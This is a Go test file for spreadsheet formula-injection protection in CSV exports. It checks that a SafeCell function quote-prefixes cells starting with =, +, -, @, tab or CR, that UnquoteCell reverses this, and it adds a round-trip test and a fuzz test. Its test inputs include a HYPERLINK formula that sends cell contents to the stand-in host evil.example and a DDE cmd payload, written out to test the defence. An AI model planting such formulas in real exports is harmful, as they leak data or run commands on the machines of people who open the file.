package transfer

import (
	"bytes"
	"strings"
	"testing"
)

func TestSafeCell(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"OKPlainText", "Nguyễn", "Nguyễn"},
		{"OKEmpty", "", ""},
		{"OKNumber", "42", "42"},
		{"OKPercent", "42,11%", "42,11%"},
		{"OKNegativeNumber", "-2,50", "-2,50"},
		{"OKNegativePercent", "-3%", "-3%"},
		{"OKInnerEquals", "a=b", "a=b"},
		{"OKQuoteBeforeText", "'Ngọc", "'Ngọc"},
		{"QuotedEquals", "=2+5", "'=2+5"},
		{"QuotedHyperlink", `=HYPERLINK("http://evil.example/?"&A1,"Bấm")`, `'=HYPERLINK("http://evil.example/?"&A1,"Bấm")`},
		{"QuotedPlus", "+84 912 345 678", "'+84 912 345 678"},
		{"QuotedMinus", "-abc", "'-abc"},
		{"QuotedMinusFormula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"QuotedAt", "@x", "'@x"},
		{"QuotedTab", "\t=1", "'\t=1"},
		{"QuotedCR", "\r=1", "'\r=1"},
		{"QuotedAlreadyQuoted", "'=x", "''=x"},
		{"QuotedQuotesThenMinus", "''-1", "'''-1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := SafeCell(tc.in)
			if got != tc.want {
				t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if back := UnquoteCell(got); back != tc.in {
				t.Errorf("UnquoteCell(%q) = %q, want %q", got, back, tc.in)
			}
		})
	}
}

func TestUnquoteCell(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"OKQuoteBeforePlus", "'+84 912 345 678", "+84 912 345 678"},
		{"OKQuoteBeforeEquals", "'=2+5", "=2+5"},
		{"OKOneQuoteOnly", "''=x", "'=x"},
		{"KeptQuoteBeforeText", "'Ngọc", "'Ngọc"},
		{"KeptQuoteAlone", "'", "'"},
		{"KeptQuotes", "''", "''"},
		{"KeptInnerQuote", "O'=x", "O'=x"},
		{"KeptUnquotedFormula", "=1", "=1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := UnquoteCell(tc.in); got != tc.want {
				t.Errorf("UnquoteCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// A CSV file written and read back gives the cells written, and none of
// its cells, as a spreadsheet reads them, starts a formula.
func TestCSVRoundTrip(t *testing.T) {
	row := []string{"=2+5", "+84 912345678", "-abc", "@x", "'=x", "-2,50", "Ánh", "\t=1"}
	var b bytes.Buffer
	w, err := NewWriter(&b, CSV, PeopleSheet)
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]string{"a", "b", "c", "d", "e", "f", "g", "h"})
	w.Write(row)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{",=", ",+", ",@", "\n=", "\n-abc"} {
		if strings.Contains(b.String(), bad) {
			t.Errorf("the CSV has a cell starting %q:\n%s", bad[1:], b.String())
		}
	}
	rows := newCSVRows(b.Bytes())
	var got []string
	for rows.Next() {
		_, got = rows.Row()
	}
	if strings.Join(got, "|") != strings.Join(row, "|") {
		t.Errorf("read back %q, want %q", got, row)
	}
}

// FuzzSafeCell: UnquoteCell gives back what SafeCell was given, and
// SafeCell's cell starts no formula (but a plain negative number).
func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"", "=2+5", "+84 912345678", "-abc", "@x", "'=x", "''", "-2,50", "\t", "'", "Ánh"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		safe := SafeCell(s)
		if back := UnquoteCell(safe); back != s {
			t.Errorf("UnquoteCell(SafeCell(%q)) = %q", s, back)
		}
		if safe != "" && strings.IndexByte(formulaStart, safe[0]) >= 0 && !negativeNumber.MatchString(safe) {
			t.Errorf("SafeCell(%q) = %q starts a formula", s, safe)
		}
	})
}
